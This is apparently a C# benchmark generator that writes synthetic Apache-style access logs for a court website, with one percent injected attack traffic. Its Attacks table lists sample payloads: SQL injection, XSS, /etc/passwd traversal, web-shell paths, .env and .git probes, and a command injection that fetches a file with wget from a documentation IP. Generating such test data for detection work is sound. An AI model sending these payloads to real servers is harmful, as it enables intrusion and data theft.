using System.Globalization;
using System.Text;

namespace SopWebsite.Bench.VisitorLogs;

/// <summary>
/// Makes an ordinary log: 200,000 clients and 20,000 paths after Zipf and Mandelbrot, 12 % IPv6, about 17 lines a second, 46 % with a query,
/// 6.7 % with percent signs (2 % of them %2F, %5B or %3A), 1 % attacks by 2,000 clients, each with one kind of attack and in episodes of 500 to
/// 3,000, encoded in four ways, and 6 lines in 100,000 out of form.
/// </summary>
internal sealed class LogMaker(int seed)
{
    private const int Clients = 200_000;
    private const int Attackers = 2_000;
    private const int Paths = 20_000;

    private static readonly string[] Agents =
    [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "WhatsApp/2.24.20.89 A",
    ];

    private static readonly string[] Words =
        ["berita", "putusan", "perkara", "jadwal-sidang", "layanan", "profil", "hakim", "panitera", "pengumuman", "posbakum", "mediasi", "gugatan", "pidana", "perdata", "select", "laporan", "2026", "zona-integritas"];

    private static readonly string[] Queries =
    [
        "option=com_content&view=article&id={0}&Itemid=101", "searchword=perkara+{0}&option=com_search", "page={0}&sort=tanggal", "utm_source=whatsapp&id={0}",
        "ver=5.9.{0}", "start={0}", "tmpl=component&print=1&page={0}", "lang=id&tahun={0}",
    ];

    private static readonly string[] Spaced = ["q=jadwal%20sidang%20{0}", "cari=putusan%20perdata%20{0}", "judul=Keb%C3%A9basan%20{0}"];

    private static readonly string[] Marked = ["nomor={0}%2FPdt.G%2F2026%2FPN+Contoh", "filter%5Btahun%5D=2026&limit={0}", "kembali=https%3A%2F%2Fwww.example.go.id%2Fberita%2F{0}"];

    private static readonly (int Weight, string Method, string[] Targets)[] Attacks =
    [
        (18, "GET", ["/index.php?id=1' union select 1,2,user(),4-- -", "/index.php?option=com_x&id=1 and sleep(5)", "/?id=1' or '1'='1", "/?id=(select 1 from information_schema.tables)"]),
        (8, "GET", ["/?q=<script>alert(1)</script>", "/?name=\"><img src=x onerror=alert(1)>"]),
        (10, "GET", ["/?file=../../../../etc/passwd", "/index.php?page=php://filter/convert.base64-encode/resource=x"]),
        (12, "GET", ["/images/c99.php", "/wp-content/uploads/2026/x.php", "/alfa.php", "/tmp/wso.php"]),
        (18, "POST", ["/wp-login.php"]),
        (8, "POST", ["/administrator/index.php"]),
        (6, "POST", ["/xmlrpc.php"]),
        (8, "GET", ["/.env", "/.git/config", "/configuration.php~", "/backup.sql", "/wp-config.php.bak"]),
        (4, "GET", ["/?x=;wget http://198.51.100.7/a -O /tmp/a", "/?x=$(id)", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"]),
        (4, "SCAN", ["/admin/", "/test/", "/old/", "/login/"]),
        (4, "GET", ["/slot-gacor/", "/situs-judi-slot/maxwin.html"]),
    ];

    private readonly Random _random = new(seed);
    private readonly double[] _clientShares = Shares(Clients, 20);
    private readonly double[] _pathShares = Shares(Paths, 5);
    private readonly byte[] _line = new byte[16 * 1024];
    private double _time = 1_793_000_000;
    private int _attacker;
    private int _left;

    public void Write(Stream stream, long bytes)
    {
        var paths = Enumerable.Range(0, Paths).Select(PathOf).ToArray();
        var addresses = Enumerable.Range(0, Clients).Select(AddressOf).ToArray();
        for (long written = 0; written < bytes;)
        {
            _time += -Math.Log(1 - _random.NextDouble()) / 16.7;
            var line = _random.NextDouble() switch
            {
                < 0.01 => Attack(),
                < 0.01006 => "baris yang terpotong " + _random.Next(),
                _ => Visit(addresses[Pick(_clientShares)], paths[Pick(_pathShares)]),
            };
            var length = Encoding.Latin1.GetBytes(line, _line);
            _line[length++] = (byte)'\n';
            stream.Write(_line, 0, length);
            written += length;
        }
    }

    private string Visit(string address, string path)
    {
        var queries = _random.NextDouble() switch { < 0.393 => Queries, < 0.44 => Spaced, < 0.46 => Marked, _ => null };
        if (queries is not null) path += "?" + string.Format(CultureInfo.InvariantCulture, queries[_random.Next(queries.Length)], _random.Next(5000));
        var status = _random.NextDouble() switch { < 0.78 => 200, < 0.87 => 304, < 0.92 => 404, < 0.97 => 301, < 0.99 => 206, _ => 500 };
        var agent = Agents[(int)(Agents.Length * Math.Pow(_random.NextDouble(), 2))];
        var referer = _random.Next(3) == 0 ? "-" : "https://www.example.go.id" + (_random.Next(2) == 0 ? "/" : path);
        return Line(address, "GET", path, status, _random.Next(200, 90_000), referer, agent);
    }

    private string Attack()
    {
        if (_left-- <= 0)
        {
            _attacker = _random.Next(Attackers);
            _left = _random.Next(500, 3001);
        }
        var kind = _attacker * 7919 % Attacks.Sum(attack => attack.Weight);
        var chosen = Attacks[0];
        foreach (var attack in Attacks)
        {
            chosen = attack;
            if ((kind -= attack.Weight) < 0) break;
        }
        var target = chosen.Targets[_random.Next(chosen.Targets.Length)];
        var scans = chosen.Method == "SCAN";
        if (scans) target += _random.Next(100_000).ToString(CultureInfo.InvariantCulture);
        return Line(
            AddressOf(1_000_000 + _attacker), scans ? "GET" : chosen.Method, Encoded(target), chosen.Method == "POST" || _random.Next(5) == 0 ? 200 : 404, 900, "-",
            scans ? "Mozilla/5.0 zgrab/0.x" : Agents[_attacker % 4]);
    }

    private string Encoded(string target)
    {
        var mark = target.IndexOf('?');
        if (mark < 0) return target;
        var how = _random.Next(10);
        var text = new StringBuilder(target, 0, mark + 1, 1024);
        foreach (var value in target.AsSpan(mark + 1))
        {
            if (char.IsAsciiLetterOrDigit(value) || value is '=' or '&' || (how < 3 && value is not (' ' or '"' or '<' or '>'))) text.Append(how is 7 or 8 ? char.ToUpperInvariant(value) : value);
            else text.Append(how == 9 ? "%25" : "%").Append(((int)value).ToString("X2", CultureInfo.InvariantCulture));
        }
        return text.ToString();
    }

    private string Line(string address, string method, string target, int status, int bytes, string referer, string agent) => string.Create(
        CultureInfo.InvariantCulture,
        $"{address} - - [{DateTimeOffset.FromUnixTimeSeconds((long)_time).ToOffset(TimeSpan.FromHours(7)):dd'/'MMM'/'yyyy':'HH':'mm':'ss} +0700] \"{method} {target} HTTP/1.1\" {status} {bytes} \"{referer}\" \"{agent}\"");

    private static string PathOf(int n) => (n % 3) switch
    {
        0 => $"/{Words[n % Words.Length]}/{n}-{Words[n / 7 % Words.Length]}-{Words[n / 49 % Words.Length]}",
        1 => $"/images/2026/{n}.{(n % 2 == 0 ? "jpg" : "png")}",
        _ => $"/media/{Words[n % Words.Length]}/{n}.{(n % 2 == 0 ? "js" : "css")}",
    };

    private static string AddressOf(int n)
    {
        var mixed = (uint)n * 2654435761;
        return n % 8 == 0 ? $"2001:db8:{mixed >> 16:x}:{mixed & 0xFFFF:x}::{n & 0xFFFF:x}" : $"{(mixed >> 24) % 223 + 1}.{(mixed >> 16) & 255}.{(mixed >> 8) & 255}.{n & 255}";
    }

    private int Pick(double[] shares)
    {
        var at = Array.BinarySearch(shares, _random.NextDouble());
        return Math.Min(at < 0 ? ~at : at, shares.Length - 1);
    }

    private static double[] Shares(int count, double q)
    {
        var shares = new double[count];
        var sum = 0d;
        for (var n = 0; n < count; n++) shares[n] = sum += 1 / (n + 1 + q);
        for (var n = 0; n < count; n++) shares[n] /= sum;
        return shares;
    }
}
